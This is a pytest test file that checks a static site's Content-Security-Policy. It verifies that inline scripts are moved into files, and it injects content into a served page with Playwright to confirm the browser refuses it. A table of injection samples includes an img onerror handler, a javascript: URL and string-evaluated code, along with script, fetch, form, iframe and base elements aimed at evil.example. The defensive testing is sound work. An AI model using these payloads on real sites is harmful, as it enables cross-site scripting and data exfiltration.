"""The policy of the pages: every page has it and holds to it, and a browser refuses what somebody brings into one."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from built_site import breaches, html_files
from codev.errors import BuildError
from codev.site.engine.policy import SCRIPT_FOLDER, policy, without_inline_scripts
from front_end_pages import served

FRAME = f"""<head><meta http-equiv="Content-Security-Policy" content="{policy()}"><script>first()</script></head><body>
<script>second()
third()</script><script src="../../assets/codev/begin.js"></script><script src="x.js"></script></body>"""

BROUGHT_IN = {
    "an element": ("script-src-elem", "add('script', { text: 'ran = 1' })"),
    "a handler": ("script-src-attr", "add('p', { innerHTML: '<img src=data:, onerror=ran=1>' })"),
    "a script address": ("script-src-elem", "add('a', { href: 'javascript:ran = 1' }).click()"),
    "code in a text": ("script-src", "setTimeout('ran = 1')"),
    "a foreign script": ("script-src-elem", "add('script', { src: 'https://evil.example/x.js' })"),
    "a foreign picture": ("img-src", "new Image().src = 'https://evil.example/x.png'"),
    "a foreign request": ("connect-src", "fetch('https://evil.example/').catch(() => null)"),
    "a foreign form": ("form-action", "add('form', { action: 'https://evil.example/' }).submit()"),
    "a frame": ("frame-src", "add('iframe', { src: 'https://evil.example/' })"),
    "an object": ("object-src", "add('object', { data: 'x.swf' })"),
    "a base": ("base-uri", "add('base', { href: 'https://evil.example/' })"),
}
"""What a text could bring into a page, with the directive that refuses it."""


def test_scripts_in_a_page_are_put_into_files() -> None:
    html, files = without_inline_scripts(FRAME, "x.html")
    assert list(files.values()) == [b"first()", b"second()\nthird()"]
    one, two = files
    assert one.startswith(SCRIPT_FOLDER)
    assert f'<script src="../../{one}"></script></head>' in html
    assert f'<script src="../../{two}"></script><script src="../../assets/codev/begin.js"></script>' in html
    assert without_inline_scripts(html, "x.html") == (html, {})


@pytest.mark.parametrize("missing", ["begin.js", "'none'"])
def test_a_page_that_lacks_something_is_refused(missing: str) -> None:
    with pytest.raises(BuildError, match=r"x\.html has no policy"):
        without_inline_scripts(FRAME.replace(missing, "gone"), "x.html")


@pytest.mark.parametrize("script", ["<script>a = '<script>'</script>", "<script>a("])
def test_a_script_that_cannot_be_moved_is_refused(script: str) -> None:
    with pytest.raises(BuildError, match=r"x\.html has a script"):
        without_inline_scripts(FRAME + script, "x.html")


@pytest.mark.slow
def test_every_page_holds_to_its_policy(built: Path) -> None:
    assert {path: found for path in html_files(built) if (found := breaches(built / path))} == {}


@pytest.fixture(scope="module")
def opened(browser: Browser, built: Path) -> Iterator[Page]:
    """A page of the site, which counts what its policy refuses."""
    with served(built) as address:
        context = browser.new_context(base_url=address)
        page = context.new_page()
        page.goto("works/gadre2023datacomp/")
        page.evaluate(
            """() => {
              window.refused = [];
              addEventListener("securitypolicyviolation", (event) => window.refused.push(event.effectiveDirective));
            }"""
        )
        yield page
        context.close()


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.parametrize("name", BROUGHT_IN)
def test_what_a_text_brings_in_is_refused(opened: Page, name: str) -> None:
    directive, script = BROUGHT_IN[name]
    refused = opened.evaluate(
        """async () => {
          window.refused.length = 0;
          const told = new Promise((done) => addEventListener("securitypolicyviolation", done, { once: true }));
          const add = (tag, given) => document.body.appendChild(Object.assign(document.createElement(tag), given));
          SCRIPT;
          await told;
          return window.refused;
        }""".replace("SCRIPT", script)
    )
    assert refused == [directive]
    assert opened.evaluate("typeof ran") == "undefined"
